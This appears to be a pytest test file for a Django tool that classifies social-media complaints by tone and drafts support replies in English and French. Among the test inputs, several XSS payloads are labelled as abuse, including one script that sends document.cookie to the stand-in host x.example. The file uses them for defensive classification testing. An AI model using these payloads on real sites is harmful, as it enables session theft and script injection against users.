"""Which draft a complaint gets: the tone of the complaint, only from a good match, in the
complaint's language, again after "Not this article", with room to spare on X."""

import pytest
from django.urls import reverse

from social import drafts, gaps, replies, sending, tone
from social.models import Reply
from social.networks import reply_length
from tests import factories

pytestmark = pytest.mark.django_db
PASSWORD = "pass-for-tests-123"


@pytest.fixture
def carla(db):
    return factories.make_user("carla", "Community managers", first_name="Carla", last_name="M")


@pytest.fixture
def cm_client(client, carla):
    client.login(username="carla", password=PASSWORD)
    return client


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("site down 502!! my shop is losing sales", tone.PROBLEM),
        ("my mails bounce since yesterday, help!", tone.PROBLEM),
        ("Mon certificat SSL a expiré, le site affiche une alerte", tone.PROBLEM),
        ("Votre appli Nimbus Drive plante sur mon Mac", tone.PROBLEM),
        ("is nimbus down? 502 bad gateway on all my sites", tone.PROBLEM),
        ("how do I change the PHP version of my website?", tone.QUESTION),
        ("Comment transférer mon domaine chez Nimbus ?", tone.QUESTION),
        ("Is there a Nimbus VPN app for my router?", tone.QUESTION),
        ("where do I put the <meta> tag for my domain?", tone.QUESTION),
        ("Thank you @NimbusDomains, the migration went perfectly!", tone.PRAISE),
        ("Merci pour l'aide, bravo à l'équipe", tone.PRAISE),
        ("where do I put the <script> tag of my analytics?", tone.QUESTION),
        ('my footer shows <script src="app.js"></script> as text, broken', tone.PROBLEM),
        ("my <iframe> of the booking page is not working", tone.PROBLEM),
        ("can you confirm (by mail) when my domain transfer is done?", tone.QUESTION),
        ("JavaScript: my menu is broken since the update", tone.PROBLEM),
        ('<script>alert("pwned")</script> your site is slow lol', tone.ABUSE),
        ("<img src=x onerror=alert(1)> sorry", tone.ABUSE),
        ("<svg/onload=prompt`1`> help", tone.ABUSE),
        ('<a href="JavaScript:void(0)">click</a> thanks', tone.ABUSE),
        ("<script>new Image().src='//x.example/?c='+document.cookie</script>", tone.ABUSE),
        ("you are all idiots", tone.ABUSE),
        ("bande d'abrutis", tone.ABUSE),
        ("Buy cheap followers at spam.example", tone.ABUSE),
    ],
)
def test_tone_rules_in_english_and_french(text, expected):
    assert tone.classify(text) == expected


def test_a_question_gets_no_apology(kb, make_complaint, carla):
    complaint = make_complaint("how do I set up the MX records of my mail?", handle="tim")
    text = sending.save_draft(complaint, carla, article=kb["bounce"]).text
    assert "sorry" not in text.lower() and "happy to help!" in text
    assert "Why do my e-mails bounce?" in text


def test_a_problem_gets_empathy(kb, make_complaint, carla):
    complaint = make_complaint("my mails bounce since this morning!!", handle="bob")
    assert (
        "sorry for the trouble" in sending.save_draft(complaint, carla, article=kb["bounce"]).text
    )


def test_praise_is_thanked_without_a_link(cm_client, kb, make_complaint):
    complaint = make_complaint("thank you Nimbus, great support today!", handle="fan")
    proposal = drafts.propose(complaint, None)
    assert proposal.tone == tone.PRAISE
    assert proposal.text.startswith("Hi @fan, thank you for the kind words")
    assert "http" not in proposal.text and proposal.article is None


def test_french_templates_are_by_tone_too(kb, make_complaint, carla):
    praise = make_complaint("Merci beaucoup, bravo pour le support !", handle="zoe")
    assert praise.language == "fr"
    assert "merci pour ce gentil message" in drafts.propose(praise, carla).text


def test_abuse_gets_no_draft_and_spam_is_suggested(cm_client, kb, make_complaint):
    troll = make_complaint('<script>alert("pwned")</script> my mails bounce lol', handle="kid")
    assert drafts.propose(troll, None).reason == drafts.ABUSE
    page = cm_client.get(reverse("social:complaint", args=[troll.pk])).content.decode()
    assert "This looks like abuse or spam" in page
    assert "Yes, mark as spam" in page
    assert 'value="send" class="button" data-key="s" disabled' in page
    assert "sorry" not in page.lower()


def test_a_low_match_gets_no_ready_draft_and_is_a_content_gap(cm_client, kb, make_complaint):
    gap = make_complaint("Votre appli Nimbus Drive plante sur mon Mac, aucune doc", handle="lea")
    # As in the demo: the best the matcher found is a low, non-confident match.
    gap.suggestions.update(score=0.26, confident=False)
    assert not drafts.good_match(gap.top_suggestion())
    page = cm_client.get(reverse("social:complaint", args=[gap.pk])).content.decode()
    assert "No good match." in page
    assert 'value="send" class="button" data-key="s" disabled' in page
    assert "sorry for the trouble" not in page and "désolés" not in page
    assert gap in gaps.gap_complaints()
    # Sending an empty text is refused; the CM writes it or picks an article.
    cm_client.post(reverse("social:save_reply", args=[gap.pk]), {"text": "", "action": "send"})
    assert not Reply.objects.exists()


def test_complaint_page_writes_nothing_and_sends_the_text_shown(cm_client, kb, make_complaint):
    complaint = make_complaint("my mails bounce since yesterday", handle="bob")
    page = cm_client.get(reverse("social:complaint", args=[complaint.pk])).content.decode()
    assert not Reply.objects.exists()
    proposal_token = page.split('name="token" value="')[1].split('"')[0]
    text = page.split('name="text"')[1].split(">", 1)[1].split("</textarea>")[0]
    text = text.replace("&#x27;", "'").replace("&amp;", "&")
    assert replies.tracked_link(proposal_token) in text
    cm_client.post(
        reverse("social:save_reply", args=[complaint.pk]),
        {"text": text, "token": proposal_token, "article": kb["bounce"].pk, "action": "send"},
    )
    reply = Reply.objects.get(complaint=complaint)
    assert reply.state == "sent" and reply.text == text and reply.token == proposal_token


def test_not_this_article_redrafts_with_the_next_suggestion_or_leaves_none(
    cm_client, kb, make_complaint, carla
):
    complaint = make_complaint("my mails bounce, 550 5.1.1 user unknown", handle="bob")
    top = complaint.top_suggestion()
    assert top.article == kb["bounce"]
    sending.save_draft(complaint, carla, article=kb["bounce"])
    following = complaint.suggestions.exclude(pk=top.pk).first()
    if following is not None:  # make the next suggestion a good one
        following.score = 0.9
        following.save()
    response = cm_client.post(reverse("social:reject", args=[complaint.pk, top.pk]), follow=True)
    reply = sending.live_reply(complaint)
    if following is not None:
        assert reply.article == following.article
        assert "Why do my e-mails bounce?" not in reply.text
        assert "the draft now links" in response.content.decode()
        response = cm_client.post(
            reverse("social:reject", args=[complaint.pk, following.pk]), follow=True
        )
        reply = sending.live_reply(complaint)
    assert reply is None  # no draft left linking a rejected article
    page = response.content.decode()
    assert "no good match left" in page and "No good match." in page


def test_rejecting_the_only_suggestion_leaves_no_draft(cm_client, kb, make_complaint, carla):
    complaint = make_complaint("my mails bounce since yesterday", handle="bob")
    complaint.suggestions.exclude(article=kb["bounce"]).delete()
    sending.save_draft(complaint, carla, article=kb["bounce"])
    top = complaint.top_suggestion()
    cm_client.post(reverse("social:reject", args=[complaint.pk, top.pk]))
    assert sending.live_reply(complaint) is None
    assert drafts.propose(complaint, carla).reason == drafts.NO_MATCH


def test_suggestions_are_in_the_complaint_language(help_center, make_complaint):
    hosting = factories.make_category(help_center, "Hosting", slug="hosting")
    outage = factories.make_article(
        hosting, "502 Bad Gateway on my website", symptoms=["site down 502", "bad gateway error"]
    )
    french = outage.copy_for_translation(factories.locale("fr"), copy_parents=True)
    french.title = "Erreur 502 Bad Gateway sur mon site"
    french.symptoms = "site en panne 502\nerreur bad gateway"
    factories.publish(french)

    english = make_complaint("site down 502 bad gateway error", handle="ann")
    assert english.language == "en"
    for suggestion in english.suggestions.select_related("article__locale"):
        assert suggestion.article.locale.language_code == "en"
    assert english.top_suggestion().article.pk == outage.pk

    complaint_fr = make_complaint("mon site est en panne, erreur 502 bad gateway", handle="zoe")
    assert complaint_fr.language == "fr"
    languages = {
        s.article.locale.language_code
        for s in complaint_fr.suggestions.select_related("article__locale")
    }
    assert languages == {"fr"}
    assert complaint_fr.top_suggestion().article.pk == french.pk


def test_drafts_leave_room_on_x_by_shortening_the_lead_in(email_category, make_complaint, carla):
    article = factories.make_article(
        email_category,
        "Why my e-mails bounce back with a 550 error and what to do",
        summary="What a bounce notice means, how to read it and fix your MX records today.",
        symptoms=["mails bounce"],
    )
    complaint = make_complaint("my mails bounce", handle="someone_with_a_long_name")
    reply = sending.save_draft(complaint, carla, article=article)
    assert reply_length(reply.text, "x") <= 250
    assert article.title in reply.text  # the lead-in went first, not the title
    assert "@someone_with_a_long_name" in reply.text
    assert replies.tracked_link(reply.token) in reply.text
